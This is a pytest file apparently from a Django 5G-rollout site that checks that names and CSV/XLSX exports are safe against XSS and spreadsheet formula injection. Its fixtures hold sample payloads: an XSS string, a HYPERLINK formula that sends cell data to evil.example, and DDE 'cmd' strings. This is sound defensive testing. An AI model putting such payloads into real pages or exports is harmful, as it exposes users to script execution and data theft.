"""Injection (issue 18 item 4), checked on the server side: names carrying an HTML/JS payload are escaped in every
page that shows them, no page has an inline script (the Content-Security-Policy forbids them), and every CSV export
neutralises cells a spreadsheet would run as formulas. ``tests/e2e/test_injection.py`` checks in a browser that no
script runs from map popups and tooltips."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from rollout5g.core import csvsafe
from rollout5g.resources import services as resources
from rollout5g.sites.choices import SiteType
from rollout5g.sites.services import site_create

pytestmark = pytest.mark.django_db

XSS = '<img src=x onerror="window.__xss=1">"><script>window.__xss=2</script>'
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
NANHU = (120.7555, 30.7469)


@pytest.fixture
def payloads(users):
    office = users["office"]
    owner_org = users["owner"].organization
    owner_org.name = f"{XSS} 业主"
    owner_org.save(update_fields=["name"])
    site = site_create(actor=office, owner=users["mobile"].organization, name=XSS, lon=NANHU[0], lat=NANHU[1],
                       site_type=SiteType.ROOFTOP, address=FORMULA)
    formula_site = site_create(actor=office, owner=users["mobile"].organization, name=FORMULA, lon=NANHU[0] + 0.01,
                               lat=NANHU[1], site_type=SiteType.ROOFTOP)
    resource = resources.resource_create(actor=office, owner=owner_org, name=XSS, kind="park", lon=NANHU[0],
                                         lat=NANHU[1] + 0.01, address=FORMULA, conditions="@SUM(1+1)*cmd|' /C calc'!A0")
    resources.resource_create(actor=office, owner=owner_org, name=FORMULA, kind="park", lon=NANHU[0] + 0.02,
                              lat=NANHU[1] + 0.01)
    today = dt.date.today()
    release = resources.release_create(actor=office, notice_start=today, notice_end=today + dt.timedelta(days=7))
    release = resources.release_publish(actor=office, release=release)
    return {"site": site, "formula_site": formula_site, "resource": resource, "release": release, "org": owner_org}


def _assert_inert(html: str, where: str):
    assert "<img src=x" not in html and "<script>window.__xss" not in html, where
    assert "&lt;img src=x" in html or "\\u003Cimg src=x" in html, f"{where}: the payload is not shown at all"


def test_payload_names_are_escaped_on_every_page_that_shows_them(payloads, client_for, client):
    office = client_for("office")
    site, resource, org, release = payloads["site"], payloads["resource"], payloads["org"], payloads["release"]
    pages = {
        f"/sites/{site.code}/": office,
        f"/sites/list/?q={site.code}": office,
        f"/open-list/resources/{resource.code}/": office,
        "/open-list/": client,
        f"/open-list/releases/{release.number}/": client,
        f"/organizations/{org.code}/": client,
        "/organizations/": client,
    }
    for url, who in pages.items():
        response = who.get(url)
        assert response.status_code == 200, url
        _assert_inert(response.content.decode(), url)


def test_no_page_has_an_inline_script_and_the_policy_forbids_them(payloads, client_for):
    office = client_for("office")
    for url in ("/", f"/sites/{payloads['site'].code}/", "/sites/map/", "/regions/", "/regions/330400/",
                "/open-list/", f"/open-list/resources/{payloads['resource'].code}/", "/supervision/",
                "/accounts/", "/api/docs"):
        response = office.get(url)
        assert response.status_code == 200, url
        policy = response["Content-Security-Policy"]
        script_src = re.search(r"script-src ([^;]*)", policy).group(1)
        assert script_src.strip() == "'self'", (url, policy)
        html = response.content.decode()
        inline = [m.group(0) for m in re.finditer(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", html)]
        assert inline == [], (url, inline)
        assert not re.search(r"\son[a-z]+=\"", html.replace('onerror="window.__xss=1"', "")), url


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return [row for row in csv.reader(io.StringIO(text)) if row and not row[0].startswith("#")]


def _assert_neutralised(rows: list[list[str]], where: str):
    cells = [c for row in rows for c in row]
    assert f"'{FORMULA}" in cells, f"{where}: the formula name is missing or not neutralised"
    for cell in cells:
        assert csvsafe.neutralise(cell) == cell or cell.startswith("'"), (where, cell)
        assert not ((cell and cell[0] in "=+@\t\r") or (cell.startswith("-") and not re.match(r"^-[\d.]+$", cell))), (where, cell)


def test_a_formula_name_comes_out_neutralised_in_every_csv(payloads, client_for, client):
    office = client_for("office")
    release = payloads["release"]
    exports = {
        "/sites/export/sites.csv": office,
        "/api/sites/export/sites.csv": office,
        f"/open-list/releases/{release.number}/download.csv": client,
        f"/open-list/releases/{release.number}/download.csv?crs=gcj02": client,
    }
    for url, who in exports.items():
        response = who.get(url)
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        _assert_neutralised(_csv_rows(content), url)


def test_the_csv_helper_follows_owasp():
    assert csvsafe.neutralise("=1+2") == "'=1+2"
    assert csvsafe.neutralise("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert csvsafe.neutralise("-2+3") == "'-2+3"
    assert csvsafe.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert csvsafe.neutralise("\t=1") == "'\t=1" and csvsafe.neutralise("\r=1") == "'\r=1"
    assert csvsafe.neutralise("-120.5") == "-120.5" and csvsafe.neutralise("+3") == "+3"
    assert csvsafe.neutralise(-3.5) == -3.5 and csvsafe.neutralise(None) is None
    assert csvsafe.neutralise("嘉兴 = 5G") == "嘉兴 = 5G"
    out = io.StringIO()
    csvsafe.writer(out).writerow(["=A1", 1, "-1"])
    assert out.getvalue().strip() == "'=A1,1,-1"


def test_the_open_list_xlsx_keeps_a_formula_name_as_text(payloads, client):
    import openpyxl

    response = client.get(f"/open-list/releases/{payloads['release'].number}/download.xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
